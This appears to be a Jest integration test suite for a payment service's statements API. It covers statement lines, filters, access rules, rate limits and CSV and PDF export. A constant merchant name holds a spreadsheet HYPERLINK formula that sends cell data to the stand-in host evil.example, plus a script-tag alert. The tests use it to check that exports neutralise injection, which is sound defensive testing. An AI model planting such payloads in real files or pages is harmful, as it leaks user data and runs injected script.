import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { extractText, getDocumentProxy } from 'unpdf';
import { statementsSettings as settings } from '../../../src/modules/statements/index.js';
import { accessSettings } from '../../../src/platform/access/index.js';
import { Clock } from '../../../src/platform/clock/index.js';
import { newId } from '../../../src/platform/ids/ids.js';
import { startTestApp, type TestApp } from '../../support/app.js';
import { chargeApproved, type LinkedMember, makeLinked } from '../../support/charges.js';
import { checkpoint } from '../../support/checkpoint.js';
import type { Json, TestClient } from '../../support/client.js';
import { makeMember, signIn, type TestMember } from '../../support/members.js';
import { fundMember } from '../../support/money.js';
import { authorization, printedCard, SHOP, tellNetwork } from '../../support/network.js';
import { approvedBy, lanePayee, sendInLane, senderOf } from '../../support/transfer-lane.js';

const PERSON = { familyName: '鸛野谷', givenName: '杜鵑花', familyKana: 'コウノヤツ', givenKana: 'サツキノ' } as const;
const OTHER = { familyName: '鵯越', givenName: '椋鳥', familyKana: 'ヒヨドリゴエ', givenKana: 'ムクドリ' } as const;
const HOSTILE = '=HYPERLINK("https://evil.example?"&A1,"返金")<script>alert(1)</script>';

let app: TestApp;
let mine: LinkedMember;
let theirs: TestClient;
let other: TestMember;

/** The answer as bytes, which the client of tests makes text of. */
async function bytes(client: TestClient, path: string): Promise<{ status: number; headers: Headers; body: Buffer }> {
  const cookie = [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const headers = { cookie, origin: app.config.publicOrigin, 'sec-fetch-site': 'same-origin' };
  const reply = await fetch(new URL(path, app.url), { headers });
  return { status: reply.status, headers: reply.headers, body: Buffer.from(await reply.arrayBuffer()) };
}

const month = (): string => new Date(app.get(Clock).nowMs() + 9 * 3_600_000).toISOString().slice(0, 7);
const lines = async (client: TestClient, query = ''): Promise<Json[]> =>
  (await client.get(`/api/statement${query}`)).body.lines as Json[];

/** A member with something of everything. */
beforeAll(async () => {
  app = await startTestApp();
  mine = await makeLinked(app);
  const { id } = mine.member;
  expect((await chargeApproved(app, mine, 3_000)).status).toBe(201);
  await fundMember(app, id, 20_000n);
  const card = await printedCard(app, id);
  const [shop, evil] = [
    authorization(card, 1_280),
    authorization(card, 900, { merchant: { ...SHOP, id: 'evil-1', name: HOSTILE } }),
  ];
  for (const asked of [shop, evil])
    expect((await tellNetwork(app, 'authorizations', asked)).body.outcome).toBe('approved');
  const taken = await tellNetwork(app, 'captures', {
    ...{ messageId: newId(), reference: shop.reference, amountYen: 1_000, final: true },
  });
  expect(taken.body.outcome).toBe('accepted');
  const refund = { messageId: newId(), reference: shop.reference, captureId: taken.body.captureId, amountYen: 200 };
  expect((await tellNetwork(app, 'refunds', refund)).body.outcome).toBe('accepted');

  other = await makeMember(app, { assurance: 'high', person: OTHER });
  const sender = await senderOf(app, other, 10_000n);
  const payeeId = await lanePayee(app, sender, { id }, true);
  const [intentId = ''] = await approvedBy(app, sender, 1);
  const sent = await sendInLane(app, { sender, receiverId: id, payeeId, amountYen: 700n, intentId });
  expect(sent.kind).toBe('done');
  theirs = app.client({ address: '127.3.0.2' });
  await signIn(app, theirs, other);
  await signIn(app, mine.client, mine.member);
}, 180_000);
afterAll(() => app.stop());

describe('a statement', () => {
  it('has every line with what it was for, and the balance after it', async () => {
    const shown = await lines(mine.client);
    expect(shown.map(({ kind, what, amountYen, pending }) => [kind, what, amountYen, pending])).toEqual([
      ['transfer-in', 'transfer-received', 700, false],
      ['refund', 'refund', 200, false],
      ['payment', 'payment-released', 280, false],
      ['payment', 'payment', -900, true],
      ['payment', 'payment', -1_280, false],
      ['charge', 'charge', 20_000, false],
      ['charge', 'charge', 3_000, false],
    ]);
    const [received, refund, released, evil, paid, , charged] = shown;
    expect(received).toMatchObject({ name: '鵯○ 椋○', transferId: expect.any(String) });
    for (const line of [refund, released, paid])
      expect(line).toMatchObject({ merchantName: SHOP.name, category: 'everyday' });
    expect(new Set([refund, released, paid].map(({ paymentId }) => paymentId)).size).toBe(1);
    expect(evil).toMatchObject({ merchantName: HOSTILE });
    expect(charged).toMatchObject({ chargeId: expect.any(String), bankNameJa: expect.stringMatching(/./) });
    expect(charged.accountMasked).toMatch(/\d\d$/);
    expect(shown[0].balanceYen).toBe((await mine.client.get('/api/home')).body.balanceYen);
    // What leads on is there.
    for (const path of [
      `/api/transfers/${received.transferId}`,
      `/api/payments/${paid.paymentId}`,
      `/api/charges/${charged.chargeId}`,
    ])
      expect((await mine.client.get(path)).status).toBe(200);
  });

  it('shows what is held beside the balance, and the months', async () => {
    const pending = (await mine.client.get('/api/statement/pending')).body;
    expect(pending).toMatchObject({
      heldYen: 900,
      holds: [{ kind: 'payment', merchantName: HOSTILE, amountYen: 900 }],
    });
    const { months } = (await mine.client.get<{ months: Json[] }>('/api/statement/months')).body;
    expect(months).toHaveLength(12);
    expect(months.at(-1)).toMatchObject({
      ...{ month: month(), chargedYen: 23_000, receivedYen: 700, paidYen: 1_900, refundedYen: 200, sentYen: 0 },
      ...{ endYen: pending.balanceYen, categories: [{ category: 'everyday', paidYen: 1_900 }] },
    });
  });

  it('of the sender has the same transfer the other way round', async () => {
    const [sent] = await lines(theirs, '?kind=transfer-out');
    expect(sent).toMatchObject({ what: 'transfer-sent', amountYen: -700, name: expect.stringContaining('○') });
  });

  it('is narrowed by days, kind and amounts', async () => {
    expect((await lines(mine.client, '?kind=refund')).map(({ amountYen }) => amountYen)).toEqual([200]);
    expect((await lines(mine.client, '?least=700&most=1280')).map(({ amountYen }) => amountYen)).toEqual([
      ...[700, -900, -1_280],
    ]);
    expect(await lines(mine.client, '?until=2020-01-01')).toEqual([]);
  });

  it.each([
    'before=x',
    'before=1',
    'before=2026-11-22T10:00:00.000Z~',
    'before=a&before=b',
    'from=2026-02-30',
    'from=2026-1-1',
    'from[a]=2026-01-01',
    'until=1999-01-01',
    'from=2026-11-02&until=2026-11-01',
    'kind=everything',
    'kind=charge&kind=refund',
    'least=-1',
    'least=1.5',
    'least=1e3',
    'least=%EF%BC%99',
    'most=99999999999',
    'least=2&most=1',
    'member=00000000-0000-7000-8000-000000000000',
    'memberId=00000000-0000-7000-8000-000000000000',
  ])('is refused for ?%s', async (query) => {
    const reply = await mine.client.get(`/api/statement?${query}`);
    expect([reply.status, reply.body.code]).toEqual([400, 'request.invalid']);
  });

  it("is the caller's own whatever a cursor says: another's leads to a place in one's own account", async () => {
    const own = (await lines(mine.client)).map(({ id, at }) => `${String(at)} ${String(id)}`);
    const [theirLast] = await lines(theirs);
    const before = encodeURIComponent(`${String(theirLast.at)}~${String(theirLast.id)}`);
    const found = await lines(mine.client, `?before=${before}`);
    expect(found.length).toBeGreaterThan(0);
    for (const { id, at } of found) expect(own).toContain(`${String(at)} ${String(id)}`);
    const far = encodeURIComponent('2999-01-01T00:00:00.000Z~999999999999999999');
    expect((await lines(mine.client, `?before=${far}`)).length).toBe(own.length);
  });

  it('is given to nobody without a session, and not before the card is active', async () => {
    const waiting = app.client({ address: '127.3.0.3' });
    await signIn(app, waiting, await makeMember(app, { card: 'arrived' }));
    for (const path of ['', '/pending', '/months', '/csv', `/pdf?month=${month()}`]) {
      expect((await app.client().get(`/api/statement${path}`)).status).toBe(401);
      expect((await waiting.get(`/api/statement${path}`)).status).toBe(403);
    }
  });
});

describe('a file', () => {
  const taken = async (memberId: string): Promise<Json[]> =>
    app.database.asOwner(
      `select details, actor_kind as actor from audit.event where type = 'statements.taken' and member_id = $1 order by seq`,
      [memberId],
    );

  checkpoint(
    '④.allow-lists',
    'for spreadsheets has no formula, no name of anybody, and is not kept by the browser',
    async () => {
      const { status, headers, body } = await bytes(mine.client, '/api/statement/csv');
      expect(status).toBe(200);
      expect(headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
      expect(headers.get('cache-control')).toBe('no-store');
      expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+\.csv"; filename\*=UTF-8''%E3/);
      expect(body.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const rows: string[][] = parse(body, { bom: true });
      expect(rows).toHaveLength(8);
      expect(rows.every((row) => row.length === 9)).toBe(true);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(rows[4]?.[3]).toBe(`'${HOSTILE}`);
      expect(rows[4]?.[7]).toBe('確保中');
      expect(rows[1]?.slice(3, 6)).toEqual(['鵯○ 椋○', '700', '']);
      for (const word of [...Object.values(PERSON), ...Object.values(OTHER)])
        expect(body.toString()).not.toContain(word);
      const kinds: string[][] = parse((await bytes(mine.client, '/api/statement/csv?kind=refund&locale=en')).body, {
        bom: true,
      });
      expect(kinds.map((row) => row[1])).toEqual(['Kind', 'Refund']);
    },
  );

  checkpoint(
    '④.allow-lists',
    'on paper has nickname, last two digits, lines and sums, and nothing else of the person',
    async () => {
      const member = await makeMember(app, { person: PERSON, profile: { nickname: 'かなりあ' } });
      const client = app.client({ address: '127.3.0.4' });
      await signIn(app, client, member);
      await fundMember(app, member.id, 5_000n);
      const { number } = await printedCard(app, member.id);
      const { status, headers, body } = await bytes(client, `/api/statement/pdf?month=${month()}`);
      expect(status).toBe(200);
      expect([headers.get('content-type'), headers.get('cache-control')]).toEqual(['application/pdf', 'no-store']);
      const { text } = await extractText(await getDocumentProxy(new Uint8Array(body)), { mergePages: true });
      const words = text.replace(/\s+/g, '');
      for (const word of ['かなりあ', '¥5,000', '関所リハーサル株式会社', `カード番号の末尾${number.slice(-2)}`])
        expect(words).toContain(word);
      for (const word of [...Object.values(PERSON), member.email, member.phone.slice(-8), number.slice(-4), '6300213'])
        expect(words).not.toContain(word);
      const [event] = await taken(member.id);
      expect(words).toContain(event.details.reference);
      expect(await taken(member.id)).toEqual([
        {
          actor: 'member',
          details: {
            format: 'pdf',
            reference: expect.any(String),
            days: expect.any(Number),
            endedDaysAgo: expect.any(Number),
            rows: 1,
          },
        },
      ]);
    },
  );

  it('with a hostile merchant is a harmless page', async () => {
    const { body } = await bytes(mine.client, `/api/statement/pdf?month=${month()}&locale=en`);
    const { text } = await extractText(await getDocumentProxy(new Uint8Array(body)), { mergePages: true });
    expect(text).toContain('=HYPERLINK("https:');
    for (const word of ['/URI', '/JavaScript', '/OpenAction', '/Launch']) expect(body.includes(word)).toBe(false);
  });

  it.each([
    ['csv?from=2024-01-01&until=2026-01-01', 409, 'statements.too-long'],
    ['csv?from=2026-02-30', 400, 'request.invalid'],
    ['csv?until=2026-02-30', 400, 'request.invalid'],
    ['csv?before=x', 400, 'request.invalid'],
    ['csv?locale=fr', 400, 'request.invalid'],
    ['pdf', 400, 'request.invalid'],
    ['pdf?month=2026-13', 400, 'request.invalid'],
    ['pdf?month=2026-1', 400, 'request.invalid'],
    ['pdf?month=2026-11-01', 400, 'request.invalid'],
    ['pdf?month=2999-01', 409, 'statements.not-begun'],
  ])('%s is refused', async (path, status, code) => {
    const reply = await mine.client.get(`/api/statement/${path}`);
    expect([reply.status, reply.body.code]).toEqual([status, code]);
  });

  it('with more lines than it holds is refused', async () => {
    const { id } = mine.member;
    const full = app.client({ address: '127.3.0.5' });
    const busy = await makeMember(app);
    await signIn(app, full, busy);
    for (let n = 0; n < settings.paperRowsMax; n += 100)
      await Promise.all(Array.from({ length: 100 }, () => fundMember(app, busy.id, 1n)));
    expect((await bytes(full, `/api/statement/pdf?month=${month()}`)).status).toBe(200);
    await fundMember(app, busy.id, 1n);
    const reply = await full.get(`/api/statement/pdf?month=${month()}`);
    expect([reply.status, reply.body.code, reply.body.requires]).toEqual([
      ...[409, 'statements.too-many', { rowsMax: settings.paperRowsMax }],
    ]);
    expect((await taken(id)).length).toBeGreaterThan(0);
  }, 120_000);

  checkpoint(
    '④.allow-lists',
    'is given to a sign-in of lately alone, and so many an hour to a member over all sessions',
    async () => {
      const member = await makeMember(app);
      const [one, two] = [app.client({ address: '127.3.0.6' }), app.client({ address: '127.3.0.7' })];
      await signIn(app, one, member);
      // Somebody who goes on looking stays signed in.
      for (let left = accessSettings.importantAgeSeconds + 60; left > 0; left -= 600) {
        await app.clock.advance(Math.min(600, left));
        expect((await one.get('/api/session')).status).toBe(200);
      }
      const old = await one.get('/api/statement/csv');
      expect([old.status, old.body.code]).toEqual([401, 'request.authentication-too-old']);
      expect((await one.get('/api/statement')).status).toBe(200);
      await signIn(app, one, member);
      await signIn(app, two, member);
      const statuses: number[] = [];
      for (let n = 0; n < settings.filesPerMember; n += 1)
        statuses.push((await (n % 2 === 0 ? one : two).get('/api/statement/csv')).status);
      expect(new Set(statuses)).toEqual(new Set([200]));
      const refused = await two.get('/api/statement/csv');
      expect([refused.status, refused.body.code]).toEqual([429, 'request.too-many']);
      expect(refused.body.retryAfterSeconds).toBeGreaterThan(0);
      expect(await taken(member.id)).toHaveLength(settings.filesPerMember);
    },
    60_000,
  );
});
